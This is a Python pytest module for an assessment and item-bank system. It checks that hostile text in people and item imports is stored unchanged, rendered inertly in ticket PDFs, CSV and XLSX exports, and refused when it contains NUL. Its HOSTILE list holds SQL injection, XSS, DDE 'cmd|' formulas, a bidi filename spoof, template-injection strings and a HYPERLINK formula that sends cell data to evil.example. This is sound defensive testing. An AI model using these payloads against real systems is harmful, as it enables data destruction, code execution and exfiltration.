"""Hostile text in every text field of an import is stored as it is and written inertly.

SQL, HTML, spreadsheet formulas, bidirectional controls and long text go in through the people
and item imports; they come back unchanged from the database, as plain text in the ticket PDF
(read with poppler's ``pdftotext``), as neutralised cells in CSV exports and as text cells in
XLSX (reopened with openpyxl). NUL, which PostgreSQL cannot store, is refused with a clear problem.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import Session, select

from assess.exceptions import RegistrationError
from assess.models import Area, School, SchoolClass
from assess.registration import register_students, school_tickets
from itembank import services
from itembank.db import session_scope
from itembank.exceptions import ValidationReport
from itembank.formats import bundle_document, csv_text, dump_json, parse_csv, parse_json
from itembank.tabular import append_xlsx_row, looks_like_formula, restore_cell
from reports.tickets import render_tickets, tickets_csv
from tests.assess.test_registration import BASE, FAST
from tests.itembank import samples

HOSTILE = [
    "'; DROP TABLE student; --",
    "Robert'); DELETE FROM area;--",
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example/?"&A1,"点此领奖")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "学校\u202egnp.exe",  # right-to-left override
    "\u200f右到左标记\u200e",
    "\u2066隔离\u2069 &amp; &lt;",
    "%s%s%n ${7*7} {{7*7}}",
]
URL = "https://infolit.example.edu.cn/"
_BIDI = re.compile("[\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def _flat(text: str) -> str:
    """Text without bidi controls and spaces (pdftotext turns a control into a space or nothing)."""
    return re.sub(r"\s+", "", _BIDI.sub("", text))


def _people_rows() -> list[dict[str, Any]]:
    rows = []
    for k, text in enumerate(HOSTILE):
        rows.append(
            {
                **BASE,
                "province": text[:64],
                "province_code": f"P{k}",
                "city": text[:64],
                "city_code": f"C{k}",
                "county": text[:64],
                "county_code": f"Q{k}",
                "school": text,
                "school_code": f"S{k:03d}",
                "class": text[:32],
                "student_code": f"INJ{k:03d}",
            }
        )
    rows.append({**BASE, "school_code": "SLONG", "school": "长" * 128, "student_code": "LONG1", "class": "班" * 32})
    return rows


def _pdftotext(pdf: bytes, tmp_path: Path) -> str:
    if shutil.which("pdftotext") is None:
        pytest.skip("poppler-utils not installed (apt-get install poppler-utils poppler-data)")
    path = tmp_path / "tickets.pdf"
    path.write_bytes(pdf)
    done = subprocess.run(["pdftotext", "-enc", "UTF-8", str(path), "-"], capture_output=True, check=True)
    if b"Missing language pack" in done.stderr:
        pytest.skip("poppler-data not installed: pdftotext cannot read the CJK font")
    return done.stdout.decode("utf-8")


def test_hostile_names_are_stored_exactly_and_written_inertly(engine: Engine, tmp_path: Path) -> None:
    rows = _people_rows()
    with session_scope(engine) as session:
        summary = register_students(session=session, rows=rows, hasher=FAST)
    assert summary.students_created == len(rows)
    with Session(engine) as s:
        schools = {sc.code: sc.name for sc in s.exec(select(School)).all()}
        areas = {a.code: a.name for a in s.exec(select(Area)).all()}
        classes = set(s.exec(select(SchoolClass.name)).all())
    for k, text in enumerate(HOSTILE):
        assert schools[f"S{k:03d}"] == text and areas[f"Q{k}"] == text[:64] and text[:32] in classes
    with session_scope(engine) as session:
        cards = [c for k in range(len(HOSTILE)) for c in school_tickets(session=session, school_code=f"S{k:03d}")]
    # the ticket PDF: every name is plain text on its card, and the file holds no action or link
    pdf = render_tickets(summary.tickets, login_url=URL, page_per_class=False)
    for marker in (b"/JavaScript", b"/JS", b"/URI", b"/Launch", b"/OpenAction", b"/AA", b"/Annot"):
        assert marker not in pdf
    text = _flat(_pdftotext(pdf, tmp_path))
    for name in HOSTILE:  # whole, or cut to the card's width with an ellipsis
        flat = _flat(name)
        assert flat + "（S" in text or any(flat[:n] + "…（S" in text for n in range(15, len(flat))), name
    assert "学校：" + "长" * 15 in text and "长…（SLONG）" in text  # a long name is cut to the card
    # the CSV: no cell a spreadsheet would run, and each reads back as stored
    raw = tickets_csv(cards, login_url=URL)
    records = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert not [cell for record in records for cell in record if looks_like_formula(cell)]
    assert {restore_cell(r[1]) for r in records[1:]} == set(HOSTILE)
    # XLSX: stored names as text cells (never formulas), reopened unchanged
    workbook = Workbook()
    sheet = workbook.active
    for card in cards:
        append_xlsx_row(sheet, [card.school_code, card.school_name, card.class_name])
    path = tmp_path / "schools.xlsx"
    workbook.save(path)
    assert b"<f>" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    reopened = [tuple(c.value for c in r) for r in load_workbook(path).worksheets[0].iter_rows()]
    assert reopened == [(c.school_code, c.school_name, c.class_name) for c in cards]


def test_nul_and_names_over_the_limit_are_refused(engine: Engine) -> None:
    with session_scope(engine) as session, pytest.raises(RegistrationError) as info:
        register_students(
            session=session,
            rows=[
                {**BASE, "school": "学校\x00"},
                {**BASE, "student_code": "P2", "school_code": "S2", "school": "长" * 129},
            ],
            hasher=FAST,
        )
    assert info.value.problems == [
        "row 2, school: contains the control character U+0000; remove it",
        "row 3, school: 129 characters, at most 128",
    ]


def _hostile_bundle(long_text: str) -> dict[str, Any]:
    doc = samples.bundle()
    doc["stimuli"][0]["title"] = HOSTILE[4]
    doc["stimuli"][0]["body"] = "\n".join(HOSTILE)
    for k, item in enumerate(doc["items"]):
        item["stem"] = HOSTILE[k % len(HOSTILE)]
        item["rationale"] = HOSTILE[(k + 1) % len(HOSTILE)]
        item["author"] = HOSTILE[(k + 2) % len(HOSTILE)]
        for j, option in enumerate(item.get("options", [])):
            option["text"] = HOSTILE[(k + j + 3) % len(HOSTILE)]
        for j, rubric in enumerate(item.get("rubric", [])):
            rubric["description"] = HOSTILE[(k + j + 5) % len(HOSTILE)]
        for j, part in enumerate(item.get("parts", [])):
            part["prompt"] = HOSTILE[(k + j + 7) % len(HOSTILE)]
    doc["items"][3]["stem"] = long_text
    return doc


def _export(engine: Engine) -> tuple[str, str]:
    with session_scope(engine) as session:
        out = services.export_items(session=session)
    return dump_json(bundle_document(out.stimuli, out.items)), csv_text(out.stimuli, out.items)


def test_hostile_item_texts_round_trip_through_json_and_csv(
    engine: Engine, sqlite_template: Path, tmp_path: Path
) -> None:
    from itembank.db import make_engine

    long_text = "长文本" * 33_333  # 99,999 characters: under the 100,000 limit
    doc = _hostile_bundle(long_text)
    with session_scope(engine) as session:
        services.import_items(session=session, bundle=parse_json(dump_json(doc).encode("utf-8")))
    exported_json, exported_csv = _export(engine)
    stored = json.loads(exported_json)
    by_code = {i["code"]: i for i in stored["items"]}
    assert by_code[doc["items"][0]["code"]]["stem"] == HOSTILE[0]
    assert by_code[doc["items"][3]["code"]]["stem"] == long_text
    assert stored["stimuli"][0]["body"] == "\n".join(HOSTILE)
    records = list(csv.reader(io.StringIO(exported_csv, newline="")))
    assert not [cell for record in records for cell in record if looks_like_formula(cell)]
    second_path = tmp_path / "second.db"
    second_path.write_bytes(sqlite_template.read_bytes())
    second = make_engine(f"sqlite:///{second_path}")
    try:
        with session_scope(second) as session:
            services.import_items(session=session, bundle=parse_csv(exported_csv.encode("utf-8")))
        assert _export(second) == (exported_json, exported_csv)
    finally:
        second.dispose()


def test_nul_and_overlong_item_texts_are_refused(engine: Engine) -> None:
    doc = _hostile_bundle("x" * 100_001)
    doc["items"][0]["stem"] = "\x00"
    with session_scope(engine) as session, pytest.raises(ValidationReport) as info:
        services.import_items(session=session, bundle=parse_json(dump_json(doc).encode("utf-8")))
    problems = {p.where: p.message for p in info.value.problems}
    assert problems["items[0].stem"] == "contains the control character U+0000; remove it"
    assert problems["items[3].stem"] == "100,001 characters, at most 100,000"
    assert _export(engine)[0].count('"code"') == 0  # nothing written
